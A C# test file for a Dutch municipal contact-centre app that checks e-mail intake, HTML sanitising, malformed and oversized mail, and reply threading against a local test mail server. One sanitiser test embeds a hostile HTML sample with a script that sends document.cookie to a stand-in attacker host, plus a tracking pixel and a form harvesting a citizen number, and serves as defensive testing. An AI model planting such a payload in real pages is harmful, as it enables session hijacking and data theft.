using System.Net.Sockets;
using System.Text;
using Kcc.Workbench.Tests.Features.Routing;
using Kcc.Workbench.Tests.Support;
using Kcc.Workbench.Web.Features.Contacts;
using Kcc.Workbench.Web.Features.Inbox;
using Kcc.Workbench.Web.Features.Parties;
using MailKit;
using MailKit.Net.Imap;
using MailKit.Net.Smtp;
using MailKit.Search;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MimeKit;

namespace Kcc.Workbench.Tests.Features.Inbox;

/// <summary>E-mail end to end against a real SMTP and IMAP server (smtp4dev), one server per test class.</summary>
public sealed class EmailTests(EmailTests.Fixture fixture) : IClassFixture<EmailTests.Fixture>
{
    public sealed class Fixture : IAsyncLifetime
    {
        public MailServer Server { get; private set; } = null!;

        public async ValueTask InitializeAsync() => Server = await MailServer.StartAsync();

        public ValueTask DisposeAsync() => Server.DisposeAsync();
    }

    private async Task<TestApp> AppAsync() => await TestApp.CreateAsync(settings: fixture.Server.Settings());

    [Fact]
    public async Task A_mail_to_the_kcc_arrives_once_with_its_sender_matched_and_is_not_read_twice_after_a_restart()
    {
        await using var app = await AppAsync();
        var partyId = await ResidentWithEmailAsync(app, "marit.jansen@voorbeeld.nl");
        var id = await SendAsync(Mail("Marit Jansen <Marit.Jansen@voorbeeld.nl>", "Afvalpas kwijt", "Ik ben mijn afvalpas kwijt. Hoe krijg ik een nieuwe?"));
        var intake = app.Services.GetRequiredService<MailIntake>();

        await intake.ReadOnceAsync(CancellationToken.None);
        await intake.ReadOnceAsync(CancellationToken.None);
        await using (var db = await app.CreateDbContextAsync())
        {
            // A restart that lost its place in the mailbox reads it all again; the Message-ID keeps it once.
            await db.Set<MailboxCursor>().ExecuteDeleteAsync();
        }

        await intake.ReadOnceAsync(CancellationToken.None);

        await using var check = await app.CreateDbContextAsync();
        var stored = await check.Set<ConversationMessage>().Include(m => m.Conversation).Where(m => m.ExternalId == id).ToListAsync();
        var message = Assert.Single(stored);
        Assert.Equal((partyId, "Afvalpas kwijt", "marit.jansen@voorbeeld.nl"), (message.Conversation!.PartyId, message.Conversation.Subject, message.Conversation.Address));
        Assert.Equal("Ik ben mijn afvalpas kwijt. Hoe krijg ik een nieuwe?", message.Body);
    }

    [Fact]
    public async Task Html_mail_is_shown_without_script_forms_or_tracking_images_and_an_unknown_sender_stays_unmatched()
    {
        await using var app = await AppAsync();
        var message = Mail("onbekend@elders.example", "Vraag", "");
        message.Body = new TextPart("html")
        {
            Text = """<p>Hallo <b>gemeente</b>,</p><script>fetch('https://kwaad.example/'+document.cookie)</script><img src="https://volg.example/pixel.gif"><form action="https://kwaad.example"><input name="bsn"></form><a href="javascript:alert(1)">klik</a><p onclick="alert(2)">Mijn vraag.</p>""",
        };
        var id = await SendAsync(message);

        await app.Services.GetRequiredService<MailIntake>().ReadOnceAsync(CancellationToken.None);

        await using var db = await app.CreateDbContextAsync();
        var stored = await db.Set<ConversationMessage>().Include(m => m.Conversation).SingleAsync(m => m.ExternalId == id);
        Assert.Null(stored.Conversation!.PartyId);
        Assert.Contains("<b>gemeente</b>", stored.SafeHtml, StringComparison.Ordinal);
        foreach (var forbidden in new[] { "<script", "cookie", "<img", "pixel", "<form", "<input", "javascript:", "onclick" })
        {
            Assert.DoesNotContain(forbidden, stored.SafeHtml, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Equal("Hallo gemeente,\nklik\nMijn vraag.", stored.Body);
    }

    [Fact]
    public async Task A_25_mb_mail_and_a_broken_one_are_stored_as_far_as_readable_and_flagged_without_blocking_the_next()
    {
        await using var app = await AppAsync();
        var huge = Mail("groot@voorbeeld.nl", "Scans", "Zie bijlage.");
        var builder = new BodyBuilder { TextBody = "Zie bijlage." };
        builder.Attachments.Add("scan.pdf", new byte[25 * 1024 * 1024], new ContentType("application", "pdf"));
        huge.Body = builder.ToMessageBody();
        var hugeId = await SendAsync(huge);
        var brokenId = $"kapot-{Guid.NewGuid():N}@voorbeeld.nl";
        await SendRawAsync("kapot@voorbeeld.nl", $"""
            From: =?utf-8?B?!!!?= <kapot@voorbeeld.nl>
            Message-ID: <{brokenId}>
            Subject: Kapot
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary="grens"

            --grens
            Content-Type: text/plain; charset=utf-8

            Tekst voor de kapotte bijlage.
            --grens
            Content-Type: application/pdf; name="kapot.pdf"
            Content-Transfer-Encoding: base64
            Content-Disposition: attachment; filename="kapot.pdf"

            %%%% !!!! ---- ****
            """);
        var afterId = await SendAsync(Mail("daarna@voorbeeld.nl", "Daarna", "Komt dit nog aan?"));

        await app.Services.GetRequiredService<MailIntake>().ReadOnceAsync(CancellationToken.None);

        await using var db = await app.CreateDbContextAsync();
        var stored = await db.Set<ConversationMessage>().Include(m => m.Attachments).Include(m => m.Conversation).ToListAsync();
        var hugeMessage = stored.Single(m => m.ExternalId == hugeId);
        Assert.StartsWith("Het bericht is te groot", hugeMessage.Problem, StringComparison.Ordinal);
        Assert.Equal(("Scans", "groot@voorbeeld.nl"), (hugeMessage.Conversation!.Subject, hugeMessage.Conversation.Address));
        Assert.Empty(hugeMessage.Attachments);
        var broken = stored.Single(m => m.ExternalId == brokenId);
        Assert.Contains("Tekst voor de kapotte bijlage.", broken.Body, StringComparison.Ordinal);
        Assert.Equal("Bijlage ‘kapot.pdf’ is beschadigd en niet bewaard.", broken.Problem);
        Assert.Empty(broken.Attachments);
        Assert.Contains(stored, m => m.ExternalId == afterId);
    }

    [Fact]
    public async Task An_answer_goes_out_by_smtp_in_the_thread_and_the_residents_reply_to_it_joins_the_same_conversation()
    {
        await using var app = await AppAsync();
        var question = await SendAsync(Mail("pieter@voorbeeld.nl", "Rijbewijs verlengen", "Hoe verleng ik mijn rijbewijs?"));
        var intake = app.Services.GetRequiredService<MailIntake>();
        await intake.ReadOnceAsync(CancellationToken.None);
        long conversationId;
        await using (var db = await app.CreateDbContextAsync())
        {
            conversationId = await db.Set<ConversationMessage>().Where(m => m.ExternalId == question).Select(m => m.ConversationId).SingleAsync();
        }

        var agent = await app.AgentAsync();
        await app.SendAsAsync(agent, new ClaimConversation.Take(conversationId));
        var view = await app.SendAsAsync(agent, new GetConversation.Query(conversationId));
        var sent = await app.SendAsAsync(agent, new SendReply.Command(conversationId, view!.Version, new LogContact.Command
        {
            Channel = Channel.Email,
            StartedAt = app.Clock.GetUtcNow().UtcDateTime,
            Questions = [new LogContact.QuestionInput { TopicId = await app.TopicIdAsync("rijbewijs"), Text = "Hoe verleng ik mijn rijbewijs?", Answer = "Vraag het aan bij de balie.", Outcome = Outcome.Beantwoord }],
        }));
        Assert.True(sent.Succeeded, sent.AllErrors);
        Assert.True(await app.Services.GetRequiredService<Outbox>().SendNextAsync(CancellationToken.None));

        // Read back from the real server: the reply, threaded under the question.
        var reply = await FindAsync(question);
        Assert.Equal(("Re: Rijbewijs verlengen", "pieter@voorbeeld.nl"), (reply.Subject, reply.To.Mailboxes.Single().Address));
        Assert.Equal("Vraag het aan bij de balie.", reply.TextBody?.Trim());
        await using (var db = await app.CreateDbContextAsync())
        {
            Assert.Equal(DeliveryStatus.Verzonden, await db.Set<ConversationMessage>().Where(m => m.Direction == Direction.Uitgaand).Select(m => m.Delivery).SingleAsync());
        }

        var followUp = Mail("pieter@voorbeeld.nl", "Re: Rijbewijs verlengen", "Dank! Moet ik een pasfoto meenemen?");
        followUp.InReplyTo = reply.MessageId;
        followUp.References.Add(question);
        followUp.References.Add(reply.MessageId!);
        var followUpId = await SendAsync(followUp);
        await intake.ReadOnceAsync(CancellationToken.None);

        await using var check = await app.CreateDbContextAsync();
        var joined = await check.Set<ConversationMessage>().SingleAsync(m => m.ExternalId == followUpId);
        Assert.Equal(conversationId, joined.ConversationId);
        Assert.Equal(ConversationStatus.Open, (await check.Set<Conversation>().SingleAsync(c => c.Id == conversationId)).Status);
        // Our own reply, which the test server also delivers to its INBOX, is not taken in as a resident's message.
        Assert.Equal(1, await check.Set<ConversationMessage>().CountAsync(m => m.ExternalId == reply.MessageId));
    }

    [Fact]
    public async Task The_running_intake_picks_up_a_new_mail_within_seconds_and_announces_it_to_open_inboxes()
    {
        await using var app = await AppAsync();
        var intake = app.Services.GetRequiredService<MailIntake>();
        var announced = new TaskCompletionSource();
        using var subscription = app.Services.GetRequiredService<Kcc.Workbench.Web.Infrastructure.ILiveUpdates>().OnInboxChanged(() =>
        {
            announced.TrySetResult();
            return Task.CompletedTask;
        });
        await ((Microsoft.Extensions.Hosting.IHostedService)intake).StartAsync(CancellationToken.None);
        try
        {
            var id = await SendAsync(Mail("nieuw@voorbeeld.nl", "Nieuw", "Komt dit vanzelf binnen?"));

            // Other tests' mails in the same server are read too: wait for this one.
            var stored = false;
            for (var i = 0; i < 150 && !stored; i++)
            {
                await Task.Delay(100);
                await using var db = await app.CreateDbContextAsync();
                stored = await db.Set<ConversationMessage>().AnyAsync(m => m.ExternalId == id);
            }

            Assert.True(stored, "The mail was not taken in within 15 s.");
            await announced.Task.WaitAsync(TimeSpan.FromSeconds(5)); // the live update may follow the store by a moment
        }
        finally
        {
            await ((Microsoft.Extensions.Hosting.IHostedService)intake).StopAsync(CancellationToken.None);
        }
    }

    private static MimeMessage Mail(string from, string subject, string text)
    {
        var message = new MimeMessage();
        message.From.Add(MailboxAddress.Parse(from));
        message.To.Add(MailboxAddress.Parse("kcc@gemeente.example"));
        message.Subject = subject;
        message.MessageId = $"{Guid.NewGuid():N}@voorbeeld.nl";
        message.Body = new TextPart("plain") { Text = text };
        return message;
    }

    private async Task<string> SendAsync(MimeMessage message)
    {
        using var smtp = new SmtpClient();
        await smtp.ConnectAsync("127.0.0.1", fixture.Server.SmtpPort, MailKit.Security.SecureSocketOptions.None);
        await smtp.SendAsync(message);
        await smtp.DisconnectAsync(true);
        return message.MessageId!;
    }

    /// <summary>An SMTP conversation by hand, for a message no mail library would write.</summary>
    private async Task SendRawAsync(string from, string data)
    {
        using var client = new TcpClient();
        await client.ConnectAsync("127.0.0.1", fixture.Server.SmtpPort);
        await using var stream = client.GetStream();
        using var reader = new StreamReader(stream, Encoding.ASCII);
        await using var writer = new StreamWriter(stream, new UTF8Encoding(false)) { NewLine = "\r\n", AutoFlush = true };
        async Task ExpectAsync(string code)
        {
            string? line;
            do
            {
                line = await reader.ReadLineAsync();
            }
            while (line is not null && line.Length > 3 && line[3] == '-');

            Assert.True(line?.StartsWith(code, StringComparison.Ordinal) == true, $"SMTP said {line}, expected {code}");
        }

        await ExpectAsync("220");
        await writer.WriteLineAsync("EHLO test");
        await ExpectAsync("250");
        await writer.WriteLineAsync($"MAIL FROM:<{from}>");
        await ExpectAsync("250");
        await writer.WriteLineAsync("RCPT TO:<kcc@gemeente.example>");
        await ExpectAsync("250");
        await writer.WriteLineAsync("DATA");
        await ExpectAsync("354");
        foreach (var line in data.Replace("\r\n", "\n", StringComparison.Ordinal).Split('\n'))
        {
            await writer.WriteLineAsync(line.StartsWith('.') ? "." + line : line);
        }

        await writer.WriteLineAsync(".");
        await ExpectAsync("250");
        await writer.WriteLineAsync("QUIT");
    }

    private async Task<MimeMessage> FindAsync(string inReplyTo)
    {
        using var imap = new ImapClient();
        await imap.ConnectAsync("127.0.0.1", fixture.Server.ImapPort, MailKit.Security.SecureSocketOptions.None);
        await imap.AuthenticateAsync("test", "test");
        await imap.Inbox.OpenAsync(FolderAccess.ReadOnly);
        for (var attempt = 0; attempt < 50; attempt++)
        {
            foreach (var uid in await imap.Inbox.SearchAsync(SearchQuery.All))
            {
                var message = await imap.Inbox.GetMessageAsync(uid);
                if (message.InReplyTo == inReplyTo)
                {
                    return message;
                }
            }

            await Task.Delay(100);
            await imap.NoOpAsync();
        }

        throw new InvalidOperationException("The reply did not arrive at the test server.");
    }

    private static async Task<int> ResidentWithEmailAsync(TestApp app, string email)
    {
        var partyId = await app.ResidentAsync("Jansen");
        await using var db = await app.CreateDbContextAsync();
        db.PartyContactDetails.Add(new PartyContactDetail { PartyId = partyId, Kind = ContactDetailKind.Email, Value = email, NormalizedValue = email });
        await db.SaveChangesAsync();
        return partyId;
    }
}
